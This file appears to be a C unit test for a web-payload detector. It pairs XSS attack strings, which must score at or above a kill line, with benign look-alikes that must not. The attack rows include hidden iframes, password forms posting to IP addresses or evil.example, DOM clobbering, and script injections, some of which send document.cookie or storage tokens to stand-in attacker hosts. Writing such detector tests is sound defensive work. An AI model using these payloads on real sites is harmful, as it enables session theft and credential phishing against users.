/* test_payload_rtx8.c - issue 20, helper x (session 29): XSS rows pinned by
 * this session's fixes, failing first on main de7f029. Each value is
 * judged as a query parameter value and as a form body "a=1&q=<percent-
 * encoded value>" (payload_rt_table.h's rt_best): an attack must draw an
 * XSS finding at or above the kill line (60, deploy/rules.yaml) in both,
 * a look-alike must stay below it in both. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define KILL 60

/* each row at or above the kill line (kill 1) or below it (kill 0) */
static void line_run(const char *name, const char *const *t, size_t n, int kill)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (int ctx = 0; ctx < 2; ctx++) {
			int s = rt_best(t[i], ctx, PAYLOAD_XSS);
			if ((s >= KILL) != kill) {
				bad++;
				fprintf(stderr, "  FAIL %s (%s): xss %d %s\n", name, ctx ? "body" : "value", s, t[i]);
			}
		}
	assert_int_equal(bad, 0);
}

/* an embed's frame kept out of sight by a CSS function or value the
 * earlier rule did not read: clip-path inset(50%) and over, clip's empty
 * rect(), scale(.01), a filter's opacity(0), zoom under .1, calc(0px),
 * visibility:collapse (rev7 E15); sizes a real embed uses stay told */
static void test_xss_frame_hidden_by_function(void **st)
{
	static const char *const hit[] = {
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path: inset(100%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(50%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"position:absolute;clip:rect(0,0,0,0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"position:absolute;clip:rect(1px 1px 1px 1px)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:scale(0.01)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform: scaleY(0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"filter:opacity(0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:circle(0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"zoom:0.001\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"width:calc(0px)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"visibility:collapse\"></iframe>",
		/* rev8 E9: opposite sides of inset() meeting, the scale
		 * property, a flat matrix(), edge-on rotateX/Y, an empty
		 * polygon(), an exponent's tiny scale, zoom in percent */
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(0 100% 0 0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(60% 0 40%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"scale:0\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:matrix(0,0,0,0,0,0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:rotateY(90deg)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:rotatex( 270deg )\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:polygon(0 0,0 0,0 0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:scale(1e-3)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"zoom:1%\"></iframe>",
	};
	static const char *const told[] = {
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:scale(0.75)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(10% 0 10% 0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(0 round 12px)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip:rect(0px,560px,315px,0px);position:absolute\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"filter:opacity(0.9);zoom:1.5\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"width:calc(100% - 20px);clip-path:circle(50%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:inset(0 10% 0 10%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"scale:0.9\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:matrix(1,0,0,1,0,0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:rotate(90deg)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:rotateY(45deg)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:polygon(0 0,100% 0,100% 100%,0 100%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"clip-path:polygon(0 0,0 0,0 0,100% 100%)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"transform:scale(1e0)\"></iframe>",
		"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		"style=\"zoom:90%\"></iframe>",
	};

	(void)st;
	line_run("frame hidden", hit, sizeof(hit) / sizeof(hit[0]), 1);
	line_run("frame shown", told, sizeof(told) / sizeof(told[0]), 0);
}

/* a form posting to an IP literal or through userinfo while the value
 * holds a password field (a login box planted in the page), by action or
 * a button's formaction; a login form to a named host (the site's own
 * webmail or sign-on, whose box a portal embeds), a form without a
 * password field and a login form to this site stay below */
static void test_xss_phishing_form(void **st)
{
	static const char *const hit[] = {
		"<form action=//203.0.113.9/login method=post><input name=user><input type=password name=pass>"
		"<button>Sign in</button></form>",
		"<form action=https://accounts.example.com@evil.example/collect><input type=password name=p></form>",
		"<form method=post action=\"http://203.0.113.9:8080/p.php\">Session expired<input type = \"password\" "
		"name=pw><input type=submit></form>",
		"<button form=f formaction=//3405803785/x>go</button><form id=f><input type='password' name=p></form>",
		"<form action=\"/\\[2001:db8::1]/\"><input type=password></form>",
		"<form action=\"https://user:pw@evil.example/\"><input type=password></form>",
		/* rev8 E14: an IPv4 part in hex or octal, fewer parts, a
		 * wildcard DNS name that spells an IP */
		"<form action=\"http://0xCB.0.113.9/x\"><input type=password name=p></form>",
		"<form action=\"http://0313.0.113.9/x\"><input type=password name=p></form>",
		"<form action=\"http://203.0.29449/x\"><input type=password name=p></form>",
		"<form action=\"http://cb007109.nip.io/x\"><input type=password name=p></form>",
		"<form action=\"http://203-0-113-9.sslip.io/x\"><input type=password name=p></form>",
		"<form action=\"//172.32.0.1/x\"><input type=password name=p></form>",
	};
	static const char *const told[] = {
		"<form method=\"post\" action=\"/login\"><input type=\"text\" name=\"username\">"
		"<input type=\"password\" name=\"password\"><button>Log in</button></form>",
		"<form action=\"//example.us1.list-manage.com/subscribe/post?u=abc&amp;id=def\" method=\"post\">"
		"<input type=\"email\" name=\"EMAIL\"></form>",
		"<form action=\"https://formspree.io/f/xyzabc\" method=\"POST\"><input type=\"email\" name=\"email\">"
		"<textarea name=\"message\">Forgot my password again</textarea></form>",
		"<form action=\"https://www.paypal.com/cgi-bin/webscr\" method=\"post\"><input type=\"hidden\" "
		"name=\"cmd\" value=\"_s-xclick\"></form>",
		"<form action=\"https://webmail.example.edu/src/redirect.php\" method=\"post\"><input type=\"text\" "
		"name=\"login_username\"><input type=\"password\" name=\"secretkey\"><input type=\"submit\"></form>",
		"<form action=\"https://accounts.example.com/login\" method=\"post\"><input name=\"user\">"
		"<input type=\"password\" name=\"pass\"></form>",
		"<form action=\"http://10.0.0.5/search\"><input name=\"q\"></form>",
		/* rev8 F3: a router's or NAS's own login page (a private,
		 * loopback or link-local address) pasted into a ticket */
		"<form action=\"http://192.168.1.1/login.cgi\" method=\"post\">User <input name=\"user\"> "
		"Password <input type=\"password\" name=\"pass\"></form>",
		"<form action=\"http://10.0.0.138/goform/login\" method=\"post\"><input type=\"password\" "
		"name=\"pwd\"></form>",
		"<form action=\"https://172.16.4.2:5001/webman/login.cgi\"><input type=\"password\"></form>",
		"<form action=\"http://127.0.0.1:8080/j_security_check\"><input type=\"password\"></form>",
		"<form action=\"http://169.254.1.1/\"><input type=\"password\"></form>",
		"<form action=\"//3232235777/login\"><input type=\"password\"></form>",
	};

	(void)st;
	line_run("phishing form", hit, sizeof(hit) / sizeof(hit[0]), 1);
	line_run("other forms", told, sizeof(told) / sizeof(told[0]), 0);
}

/* DOM clobbering: a form's field or a document-named element (img, form,
 * embed, object, iframe) whose id or name is one of the DOM's own
 * members; form fields named after what forms hold ("attributes" too: a
 * shop's field as often as a probe), an XML config's <Call
 * name="setAttribute">, an anchor, stay below */
static void test_xss_dom_clobbering(void **st)
{
	static const char *const hit[] = {
		"<form id=x><input name=innerHTML>",
		"<form id=test><input id=firstChild><input id=firstChild>",
		"<img name=getElementById>",
		"<form name=body><img id=appendChild>",
		"<img src=x name=currentScript>",
		"<iframe name=defaultView src=\"https://example.com\"></iframe>",
		"<form><input name=\"ownerDocument\"></form>",
		/* rev8 E13: Document's own properties shadowed by an img's or
		 * form's name ([LegacyOverrideBuiltIns]) */
		"<img name=cookie>",
		"<img name=body>",
		"<form name=domain></form>",
		"<embed name=\"cookie\">",
		"<img src=x name=referrer>",
	};
	static const char *const told[] = {
		"<form id=\"checkout\"><input name=\"address\"><input name=\"city\"></form>",
		"<form><input name=\"title\"><input name=\"body\"><input name=\"domain\"><input name=\"submit\"></form>",
		"<input type=\"text\" id=\"name\" name=\"name\" autocomplete=\"name\">",
		"<select name=\"attribute_pa_size\"><option>M</option></select>",
		"<input type=\"text\" name=\"attributes\" id=\"attributes\">",
		"<form id=\"x\"><input name=\"attributes\"></form>",
		"<Call name=\"setAttribute\"><Arg>org.eclipse.jetty.server.webapp.ContainerIncludeJarPattern</Arg></Call>",
		"<a id=defaultView href=\"#top\">Top</a>",
		"<input type=\"text\" name=\"nodeName\" placeholder=\"worker-1\">",
		"<label for=\"localName\">Local name</label><input id=\"localName\" name=\"localName\">",
		"<img id=\"body\" src=\"a.png\">",
		"<a name=\"cookie\"></a><h2>Cookie policy</h2>",
		"<input type=\"checkbox\" name=\"cookie\" id=\"cookie\">",
	};

	(void)st;
	line_run("dom clobbering", hit, sizeof(hit) / sizeof(hit[0]), 1);
	line_run("form fields", told, sizeof(told) / sizeof(told[0]), 0);
}

/* a quoted handler whose whole body does nothing (return false;) is rich
 * text's '#' link; anything more in it, another handler beside it or an
 * unquoted body stays a kill. (A body with a call, event.preventDefault(),
 * is still read by the attribute-break rules: not pinned here.) */
static void test_xss_inert_handler(void **st)
{
	static const char *const hit[] = {
		"<a href=\"#\" onclick=\"return false;alert(1)\">x</a>",
		"<a href=\"#\" onclick=\"return alert(1)\">x</a>",
		"<a href=\"#\" onclick=\"return(alert(1))\">x</a>",
		"<a href=\"#\" onclick=\"void 0,alert(1)\">x</a>",
		"<a href=\"#\" onclick=\"return true\nalert(1)\">x</a>",
		"<a href=\"#\" onclick=\"return false;\" onmouseover=alert(1)>x</a>",
		"<a href=# onclick=return&Tab;alert(1)>x</a>",
		"<a href=\"#\" onclick=\"return false;fetch('//evil.example/?'+document.cookie)\">x</a>",
	};
	static const char *const told[] = {
		"<a href=\"#\" onclick=\"return false;\">Read more</a>",
		"<p><a href=\"#\" onclick=\"return false\">Toggle</a></p>",
		"<a href=\"#\" class=\"btn\" onclick=\"return true;\">Continue</a>",
		"<a href=\"#top\" onclick=\" return false ; \">Top</a>",
	};

	(void)st;
	line_run("handler with code", hit, sizeof(hit) / sizeof(hit[0]), 1);
	line_run("handler doing nothing", told, sizeof(told) / sizeof(told[0]), 0);
}

/* a global's member named by a plain literal and only read or set
 * (Google Tag Manager's window['dataLayer'] = window['dataLayer'] || [])
 * is no computed call; called, a sink's name, or computed, it stays one */
static void test_xss_named_global_member(void **st)
{
	static const char *const hit[] = {
		"';window['alert'](1);//",
		"';top['foo']();//",
		"\";window[\"location\"]='//evil.example';//",
		"';top['al'+'ert'](1);//",
		"';self['x']=1;alert(1);//",
		"';window['constructor']['constructor']('alert(1)')();//",
		/* rev8 L5: a bracketed walk to the cookie, storage or
		 * navigation is the exfiltration half of an XSS */
		"new Image().src='//evil.example/?'+window['document']['cookie']",
		"fetch('//evil.example/?c='+self['document']['cookie'])",
		"fetch('//e/?'+window['localStorage']['token'])",
		"location='//evil/?'+window['document']['cookie']",
		"';x=window['document'];//",
		"';x=self['sessionStorage'].getItem('t');//",
		"';window['opener'].location='//evil';//",
		"';y=top['name'];//",
		"';window['config']['x']=1;alert(1);//",
	};
	static const char *const told[] = {
		"window['dataLayer'] = window['dataLayer'] || [];",
		"top['menu'] = new Menu(); self['config'] = {debug:false};",
		"window['__APP_STATE__'] = {user: null};",
	};

	(void)st;
	line_run("computed global", hit, sizeof(hit) / sizeof(hit[0]), 1);
	line_run("named global", told, sizeof(told) / sizeof(told[0]), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xss_frame_hidden_by_function),
		cmocka_unit_test(test_xss_phishing_form),
		cmocka_unit_test(test_xss_dom_clobbering),
		cmocka_unit_test(test_xss_inert_handler),
		cmocka_unit_test(test_xss_named_global_member),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
